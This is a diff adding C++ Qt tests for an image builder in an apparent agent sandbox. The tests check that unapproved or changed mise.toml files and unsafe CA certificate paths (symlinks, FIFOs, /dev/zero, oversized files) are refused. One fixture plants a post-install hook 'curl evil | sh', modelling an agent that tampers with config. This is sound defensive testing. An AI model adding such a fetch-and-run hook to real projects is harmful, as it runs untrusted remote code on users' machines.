@@ -2,15 +2,19 @@
 // certificates) and the `build` arguments (no secrets). build() runs against the fake
 // launcher.
 
+#include "approvedfile.h"
 #include "fakeprocesslauncher.h"
 #include "imagebuilder.h"
+#include "sandboxstate.h"
 #include "testhelpers.h"
 
 #include <QDir>
+#include <QElapsedTimer>
 #include <QSignalSpy>
 #include <QTemporaryDir>
 #include <QtTest>
 
+#include <sys/stat.h>
 #include <unistd.h>
 
 using namespace ocs;
@@ -39,6 +43,12 @@ private Q_SLOTS:
     void prepareContext_copiesImageSources();
     void prepareContext_writesEmptyMiseToml();
     void prepareContext_copiesProjectMiseToml();
+    void prepareContext_refusesUnapprovedMiseToml();
+    void prepareContext_refusesUnsafeMiseToml_data();
+    void prepareContext_refusesUnsafeMiseToml();
+    void prepareContext_refusesUnsafeCaFiles_data();
+    void prepareContext_refusesUnsafeCaFiles();
+    void build_unapprovedMiseTomlBuildsNothing();
     void prepareContext_copiesCaFiles();
     void prepareContext_rejectsBadCaFile_data();
     void prepareContext_rejectsBadCaFile();
@@ -56,6 +66,14 @@ private Q_SLOTS:
 
 private:
     Project makeProject(const QString &name, const ProjectConfig &config);
+    // Approves the project's mise.toml as the user would after reading it.
+    static void approveMise(const Project &p)
+    {
+        const ApprovedFile mise(p, ApprovedFile::Kind::MiseToml);
+        QString error;
+        QVERIFY2(p.ensureStateDirs(&error), qPrintable(error));
+        QVERIFY2(mise.approve(mise.read().sha256, &error), qPrintable(error));
+    }
 
     QTemporaryDir m_tmp;
     QString m_base;
@@ -183,10 +201,153 @@ void TestImageBuilder::prepareContext_copiesProjectMiseToml()
     const Project p = makeProject(QStringLiteral("mise"), minimalConfig(QStringLiteral("mise")));
     const QByteArray mise = "[tools]\nnode = \"22\"\npython = \"3.12\"\n";
     QVERIFY(writeFile(p.root() + QStringLiteral("/mise.toml"), mise));
+    approveMise(p);
     const QString ctx = m_base + QStringLiteral("/ctx-mise");
     QString error;
     QVERIFY2(ImageBuilder::prepareContext(p, ctx, &error), qPrintable(error));
     QCOMPARE(readFile(ctx + QStringLiteral("/mise.toml")), mise);
+}
+
+void TestImageBuilder::prepareContext_refusesUnapprovedMiseToml()
+{
+    const Project p =
+        makeProject(QStringLiteral("mise-new"), minimalConfig(QStringLiteral("mise-new")));
+    const QByteArray mise = "[tools]\nnode = \"22\"\n";
+    QVERIFY(writeFile(p.root() + QStringLiteral("/mise.toml"), mise));
+    const QString ctx = m_base + QStringLiteral("/ctx-mise-new");
+    QString error;
+    QVERIFY(!ImageBuilder::prepareContext(p, ctx, &error));
+    QVERIFY2(error.contains(QStringLiteral("ocs mise approve")), qPrintable(error));
+    QVERIFY2(error.contains(p.root() + QStringLiteral("/mise.toml")), qPrintable(error));
+    QVERIFY(!QFile::exists(ctx + QStringLiteral("/mise.toml")));
+
+    approveMise(p);
+    QVERIFY2(ImageBuilder::prepareContext(p, ctx, &error), qPrintable(error));
+    QCOMPARE(readFile(ctx + QStringLiteral("/mise.toml")), mise);
+    QCOMPARE(SandboxState::load(p.stateDir()).approvedMiseSha256, sha256Hex(mise));
+
+    // Changed after the approval (the agent adds a tool with a post-install hook): refused.
+    QVERIFY(writeFile(p.root() + QStringLiteral("/mise.toml"),
+                      mise + "[hooks]\npostinstall = \"curl evil | sh\"\n"));
+    QVERIFY(!ImageBuilder::prepareContext(p, ctx, &error));
+    QVERIFY2(error.contains(QStringLiteral("ocs mise approve")), qPrintable(error));
+    // Comments only: nothing to approve.
+    QVERIFY(writeFile(p.root() + QStringLiteral("/mise.toml"), "# nothing yet\n"));
+    QVERIFY2(ImageBuilder::prepareContext(p, ctx, &error), qPrintable(error));
+}
+
+void TestImageBuilder::prepareContext_refusesUnsafeMiseToml_data()
+{
+    QTest::addColumn<QString>("kind");
+    QTest::addColumn<QString>("expectedWords");
+    QTest::newRow("symlink to /dev/zero")
+        << QStringLiteral("devzero") << QStringLiteral("symbolic link");
+    QTest::newRow("FIFO") << QStringLiteral("fifo") << QStringLiteral("FIFO");
+    QTest::newRow("2 MiB") << QStringLiteral("big") << QStringLiteral("larger than 1 MiB");
+    QTest::newRow("hard link") << QStringLiteral("hardlink") << QStringLiteral("hard links");
+}
+
+void TestImageBuilder::prepareContext_refusesUnsafeMiseToml()
+{
+    QFETCH(QString, kind);
+    QFETCH(QString, expectedWords);
+    const QString name = QStringLiteral("unsafe-mise-") + kind;
+    const Project p = makeProject(name, minimalConfig(name));
+    const QString mise = p.root() + QStringLiteral("/mise.toml");
+    const QByteArray native = QFile::encodeName(mise);
+    if (kind == QLatin1String("devzero"))
+        QVERIFY(::symlink("/dev/zero", native.constData()) == 0);
+    else if (kind == QLatin1String("fifo"))
+        QVERIFY(::mkfifo(native.constData(), 0600) == 0);
+    else if (kind == QLatin1String("big"))
+        QVERIFY(writeFile(mise, "[tools]\n" + QByteArray(2 * 1024 * 1024, '#')));
+    else if (kind == QLatin1String("hardlink")) {
+        QVERIFY(writeFile(mise, "[tools]\nnode = \"22\"\n"));
+        QVERIFY(::link(native.constData(),
+                       QFile::encodeName(p.root() + QStringLiteral("/x.toml")).constData()) == 0);
+    }
+    QElapsedTimer timer;
+    timer.start();
+    QString error;
+    QVERIFY(!ImageBuilder::prepareContext(p, m_base + QStringLiteral("/ctx-") + name, &error));
+    QVERIFY2(error.contains(mise), qPrintable(error));
+    QVERIFY2(error.contains(expectedWords), qPrintable(error));
+    (void)ImageBuilder::miseHash(p); // must not block or blow up either
+    QVERIFY2(timer.elapsed() < 5000, "reading mise.toml blocked");
+}
+
+void TestImageBuilder::prepareContext_refusesUnsafeCaFiles_data()
+{
+    QTest::addColumn<QString>("kind");
+    QTest::addColumn<QString>("expectedWords");
+    QTest::newRow("relative: symlinked parent folder")
+        << QStringLiteral("parent") << QStringLiteral("symbolic link");
+    QTest::newRow("relative: symlink") << QStringLiteral("link") << QStringLiteral("symbolic link");
+    QTest::newRow("relative: FIFO") << QStringLiteral("fifo") << QStringLiteral("FIFO");
+    QTest::newRow("absolute: FIFO") << QStringLiteral("userfifo") << QStringLiteral("FIFO");
+    QTest::newRow("absolute: /dev/zero")
+        << QStringLiteral("devzero") << QStringLiteral("not a regular file");
+    QTest::newRow("absolute: 5 MiB")
+        << QStringLiteral("big") << QStringLiteral("larger than 4 MiB");
+}
+
+void TestImageBuilder::prepareContext_refusesUnsafeCaFiles()
+{
+    QFETCH(QString, kind);
+    QFETCH(QString, expectedWords);
+    const QString name = QStringLiteral("unsafe-ca-") + kind;
+    const QString root = m_base + QStringLiteral("/projects/") + name;
+    const QString outside = m_base + QStringLiteral("/outside-") + kind;
+    QVERIFY(writeFile(outside + QStringLiteral("/ca.pem"), CertB));
+    QString listed;
+    QString expectedPath;
+    if (kind == QLatin1String("parent")) {
+        QVERIFY(QDir().mkpath(root));
+        QVERIFY(QFile::link(outside, root + QStringLiteral("/certs")));
+        listed = QStringLiteral("certs/ca.pem");
+    } else if (kind == QLatin1String("link")) {
+        QVERIFY(QDir().mkpath(root));
+        QVERIFY(QFile::link(outside + QStringLiteral("/ca.pem"), root + QStringLiteral("/ca.pem")));
+        listed = QStringLiteral("ca.pem");
+    } else if (kind == QLatin1String("fifo")) {
+        QVERIFY(QDir().mkpath(root));
+        QVERIFY(::mkfifo(QFile::encodeName(root + QStringLiteral("/ca.pem")).constData(), 0600) ==
+                0);
+        listed = QStringLiteral("ca.pem");
+    } else if (kind == QLatin1String("userfifo")) {
+        listed = outside + QStringLiteral("/fifo.pem");
+        QVERIFY(::mkfifo(QFile::encodeName(listed).constData(), 0600) == 0);
+    } else if (kind == QLatin1String("devzero")) {
+        listed = QStringLiteral("/dev/zero");
+    } else if (kind == QLatin1String("big")) {
+        listed = outside + QStringLiteral("/big.pem");
+        QVERIFY(writeFile(listed, CertB + QByteArray(5 * 1024 * 1024, '\n')));
+    }
+    ProjectConfig c = minimalConfig(name);
+    c.extraCaCertificates = {listed};
+    const Project p = makeProject(name, c);
+    QElapsedTimer timer;
+    timer.start();
+    QString error;
+    QVERIFY(!ImageBuilder::prepareContext(p, m_base + QStringLiteral("/ctx-") + name, &error));
+    QVERIFY2(timer.elapsed() < 5000, "reading the CA file blocked");
+    QVERIFY2(error.contains(QStringLiteral("extra CA certificate")), qPrintable(error));
+    QVERIFY2(error.contains(expectedWords), qPrintable(error));
+
+    // Positive control: a symlink the user made outside the project is followed.
+    if (kind == QLatin1String("link")) {
+        QVERIFY(QFile::link(outside + QStringLiteral("/ca.pem"),
+                            outside + QStringLiteral("/user-link.pem")));
+        ProjectConfig ok = minimalConfig(name);
+        ok.extraCaCertificates = {outside + QStringLiteral("/user-link.pem")};
+        const Project q = makeProject(name, ok);
+        QVERIFY2(
+            ImageBuilder::prepareContext(q, m_base + QStringLiteral("/ctx-ok-") + name, &error),
+            qPrintable(error));
+        QCOMPARE(readFile(m_base + QStringLiteral("/ctx-ok-") + name +
+                          QStringLiteral("/extra-ca/extra-01.crt")),
+                 CertB);
+    }
 }
 
 void TestImageBuilder::prepareContext_copiesCaFiles()
@@ -407,6 +568,36 @@ void TestImageBuilder::build_success()
     QVERIFY(log.contains("Step 2/3 : RUN apt-get update\n"));
     QVERIFY(log.endsWith("Successfully built 9f8e\n"));
     QCOMPARE(fileMode(result->logPath), 0600);
+}
+
+void TestImageBuilder::build_unapprovedMiseTomlBuildsNothing()
+{
+    m_testEnv.set("OCS_NPM_REGISTRY", QStringLiteral("https://npm.example/"));
+    m_fake->reply({QStringLiteral("build")}, 0, "Successfully built 9f8e\n");
+    const Project p =
+        makeProject(QStringLiteral("build-mise"), minimalConfig(QStringLiteral("build-mise")));
+    QVERIFY(writeFile(p.root() + QStringLiteral("/mise.toml"), "[tools]\nnode = \"22\"\n"));
+    const ContainerEngine engine(ContainerEngine::Kind::Docker, QStringLiteral("/usr/bin/docker"));
+    {
+        ImageBuilder builder(engine, p);
+        std::optional<ImageBuilder::Result> result;
+        builder.build({}, [&](const ImageBuilder::Result &r) { result = r; });
+        QTRY_VERIFY(result.has_value());
+        QVERIFY(!result->ok);
+        QVERIFY2(result->error.contains(QStringLiteral("ocs mise approve")),
+                 qPrintable(result->error));
+        QCOMPARE(m_fake->count({QStringLiteral("build")}), 0);
+    }
+    // Approved: it builds (with exactly that mise.toml in the context).
+    approveMise(p);
+    ImageBuilder builder(engine, p);
+    std::optional<ImageBuilder::Result> result;
+    builder.build({}, [&](const ImageBuilder::Result &r) { result = r; });
+    QTRY_VERIFY(result.has_value());
+    QVERIFY2(result->ok, qPrintable(result->error));
+    QCOMPARE(m_fake->count({QStringLiteral("build")}), 1);
+    QCOMPARE(readFile(p.stateDir() + QStringLiteral("/build/mise.toml")),
+             QByteArray("[tools]\nnode = \"22\"\n"));
 }
 
 void TestImageBuilder::build_failure()
